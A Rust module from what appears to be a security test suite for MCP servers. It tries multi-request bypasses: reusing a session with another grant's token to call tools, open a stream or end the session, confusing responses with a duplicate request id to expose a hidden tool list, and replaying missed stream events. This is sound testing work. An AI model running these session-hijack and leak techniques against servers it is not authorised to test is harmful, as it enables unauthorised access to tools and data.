//! Ways round that take more than one request.

use std::sync::Arc;

use crate::columns::Column;
use crate::post::{Post, Target};
use crate::support::mcp::Caller;
use crate::support::wait::until;
use crate::ways::Steps;

/// Tries one, and says whether it had its effect, where that is not a tool that ran; `None`: it makes no sense here.
pub async fn effect(steps: Steps, column: &Arc<Column>, target: &Target) -> Option<bool> {
    match steps {
        Steps::SameId => same_id(column, target).await,
        Steps::Replay => replay(column, target).await,
        Steps::OwnEndpoint => None,
        Steps::StolenCall => {
            target.session.as_ref()?;
            let tool = target.tools.allowed;
            let call = Post::of(
                target,
                "tools/call",
                tool,
                target.call_of(tool, r#"{"message":"x"}"#),
            );
            let before = column.count(tool).await;
            stolen(target, call).send(&target.address, None).await;
            Some(column.count(tool).await > before)
        }
        Steps::StolenStream => {
            target.session.as_ref()?;
            let heard = stolen(target, get(target))
                .send(&target.address, Some("\r\n\r\n"))
                .await;
            Some(is_ok(&heard))
        }
        Steps::StolenEnd => {
            target.session.as_ref()?;
            let end = Post {
                method: "DELETE",
                ..Post::call(target).body("")
            };
            stolen(target, end.without("Content-Type"))
                .send(&target.address, None)
                .await;
            let ping = Post::of(target, "ping", "", r#"{"jsonrpc":"2.0","id":9,"method":"ping"}"#);
            Some(!is_ok(&ping.send(&target.address, None).await))
        }
    }
}

fn is_ok(heard: &str) -> bool {
    heard.starts_with("HTTP/1.1 200")
}

/// The request with the token of the other grant. To a server itself all who know the session look alike.
fn stolen(target: &Target, post: Post) -> Post {
    post.header("Authorization", &format!("Bearer {}", target.other_token))
}

fn get(target: &Target) -> Post {
    Post {
        method: "GET",
        close: false,
        ..Post::call(target).body("")
    }
    .without("Content-Type")
    .header("Accept", "text/event-stream")
}

/// Asks for the list and, while the server makes it, calls a tool that goes on running, under the same id. Servers
/// that keep one stream for each id then answer with the list where the call's answer is awaited.
async fn same_id(column: &Arc<Column>, target: &Target) -> Option<bool> {
    let (tool, arguments) = target.tools.waiting?;
    let before = column.count("tools/list").await;
    let (list, address) = (Post::list(target), target.address.clone());
    let listing = tokio::spawn(async move { list.send(&address, None).await });
    until("the list is asked for", || async {
        (column.count("tools/list").await > before).then_some(())
    })
    .await;
    let call = Post::of(target, "tools/call", tool, target.call_of(tool, arguments));
    let heard = call.send(&target.address, Some(target.tools.hidden)).await;
    listing.abort();
    Some(heard.contains(target.tools.hidden))
}

/// Reads the list again as what was missed on a stream.
async fn replay(column: &Column, target: &Target) -> Option<bool> {
    if !column.replays {
        return None;
    }
    let ping = Post::of(target, "ping", "", r#"{"jsonrpc":"2.0","id":9,"method":"ping"}"#);
    let heard = ping.send(&target.address, None).await;
    let id = heard
        .lines()
        .find_map(|line| line.strip_prefix("id: "))?
        .to_owned();
    Post::list(target).send(&target.address, None).await;
    let again = get(target).header("Last-Event-ID", id.trim());
    let heard = again.send(&target.address, Some(target.tools.hidden)).await;
    assert!(is_ok(&heard), "{}: nothing was replayed: {heard}", column.name);
    Some(heard.contains(target.tools.hidden))
}

/// Opens a session of the target's own, where its server has them.
pub async fn with_session(column: &Column, mut target: Target) -> Target {
    if column.sessions {
        let url = format!("http://{}{}", target.address, target.path);
        target.session = Some(Caller::new(&url, &target.token).open_session().await.id);
    }
    target
}
